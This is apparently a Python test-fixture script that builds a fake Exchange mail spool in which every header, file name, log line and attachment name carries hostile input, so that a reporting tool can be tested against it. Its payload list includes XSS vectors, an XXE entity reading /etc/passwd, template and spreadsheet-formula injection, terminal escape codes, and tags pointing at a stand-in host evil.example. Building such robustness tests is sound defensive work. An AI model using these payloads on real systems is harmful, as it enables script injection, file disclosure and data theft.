#!/usr/bin/env python3
"""hostile_tree.py DIR - writes DIR/Imcdata, a spool of messages made to break a report that shows them."""
# SPDX-License-Identifier: LGPL-2.1-or-later
import os
import sys

OWN = "document.title='owned';window.owned=1"
TEXTS = [t.encode() if isinstance(t, str) else t for t in [
    f"<script>{OWN}</script>",
    f"</title></style></script><script>{OWN}</script>",
    f"<img src=x onerror=\"{OWN}\">",
    f"<svg/onload={OWN}><circle/></svg>",
    f"\"onmouseover=\"{OWN}\" autofocus onfocus=\"{OWN}\" x=\"",
    f"' onclick='{OWN}",
    f"<a href=\"javascript:{OWN}\">x</a>",
    f"javascript:{OWN}",
    f"<iframe srcdoc=\"&lt;script&gt;parent.{OWN}&lt;/script&gt;\"></iframe>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<form action=http://evil.example/><input name=x></form>",
    f"&lt;script&gt;{OWN}&lt;/script&gt; &#60;b&#62; &amp;quot; &nbsp; &bogus;",
    "]]><!--<![CDATA[ --> <!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]> &e; <?xml version='1.0'?>",
    f"${{{OWN}}} {{{{constructor.constructor('{OWN}')()}}}} <%= 1 %>",
    "invoice\u202egpj.exe \u2066\u2067\u200b\u2028\ufeff\ufffe",
    b"\x1b]0;owned\x07\x1b[31m\x9b1m \x00\x01\x08\x7f\xff\xfe\xc0\xaf\xed\xa0\x80",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0\t,\";+1",
    "W" * 900,
]]


def fields(n, text):
    """A header whose every value is hostile, and a fault that makes it a suspect."""
    long_name = b"X-" + (text.replace(b":", b"").replace(b" ", b"_").replace(b"\0", b"") * 400)[:10240]
    return b"".join([
        b"Received: from mail.example.org by exgate1.acme.example; Mon, 5 Mar 2001 14:07:51 -0600\r\n",
        b"Message-ID: <%d." % n + text + b"@example.org>\r\n",
        b"From: \"" + text + b"\" <a" + text + b"@example.org>\r\n",
        b"To: " + text + b" <jane@acme.example>\r\n",
        b"Subject: " + text + b"\r\n",
        b"Date: " + text + b"\r\n",
        long_name + b": x\r\n" if n % 4 == 0 else b"",
        b"MIME-Version: 1.0\r\n",
        b"Content-Type: multipart/mixed; boundary=\"b%d\"; x=\"" % n + text + b"\"\r\n\r\n",
        b"--b%d\r\nContent-Type: text/plain; charset=\"\"; name=\"" % n + text + b"\"\r\n",
        b"Content-Disposition: attachment; filename=\"" + text + b"\"\r\n\r\n" + text + b"\r\n",
        b"--b%d\r\nContent-Type: text/html\r\n\r\n" % n + text + b"\r\n--b%d--\r\n" % n])


def event_log(text):
    """An application log as text, whose every record names a file, a crash or another cause in hostile words."""
    line = text.replace(b"\0", b" ").replace(b"\r", b" ").replace(b"\n", b" ").replace(b"\t", b" ")[:400]
    rows = [(b"2:07:51 PM", b"MSExchangeIMC", b"2002", b"Message D:\\exchsrvr\\imcdata\\in\\G1X4TK01 received from <" + line + b">"),
            (b"2:07:52 PM", b"MSExchangeIMC", b"4182", line + b" the message in spool file G1X4TK02 will be retried when the "
             b"server is restarted. " + line),
            (b"2:07:53 PM", b"DrWatson", b"4097", b"The application, exe\\MSEXCIMC.dbg, generated an application error The error "
             b"occurred on 3/ 5/2001 @ 14:07:53.638 The exception generated was c0000005 at address 0042f1c0 (" + line + b")"),
            (b"2:10:04 PM", b"MSExchangeIMC", b"4182", b"An unexpected error occurred. As a result, the message in spool file "
             b"G1X4TK99 will be retried when the server is restarted. " + line)]
    return b"".join(b"3/5/01\t" + time + b"\t" + source + b"\tError\tInternal Processing \t" + event + b"\tN/A\tEXGATE1\t" +
                    words + b"\r\n" for time, source, event, words in rows)


def file_name(n, text):
    name = text.replace(b"/", b"\\").replace(b"\0", b"") or b"x"
    return b"%02d" % n + name[:240]


def write(folder, name, content):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(os.fsencode(folder), name), "wb") as file:
        file.write(content)


def main(top):
    root = os.path.join(top, "Imcdata")
    for n, text in enumerate(TEXTS):
        write(f"{root}/{('In', 'Out', 'In/Temp')[n % 3]}", file_name(n, text), fields(n, text))
        write(f"{root}/Log", file_name(n, text), text)
        write(f"{top}/evidence", file_name(n, text)[:180] + b".log", event_log(text))
    for n in range(40):
        write(f"{root}/In", b"G1X4TK%02d" % n, b"From: a@example.org\r\nTo: jane@acme.example\r\n"
              b"Date: Mon, 5 Mar 2001 13:15:02 -0600\r\nMessage-ID: <%d@example.org>\r\n"
              b"Subject: Report %d\r\n\r\nThe report of week %d is ready.\r\n" % (n, n, n))
    os.symlink("<script>", f"{root}/In/link<script>alert(1)<")
    os.mkfifo(f"{root}/In/fifo\u202e\x1b[2J")


if __name__ == "__main__":
    main(sys.argv[1])
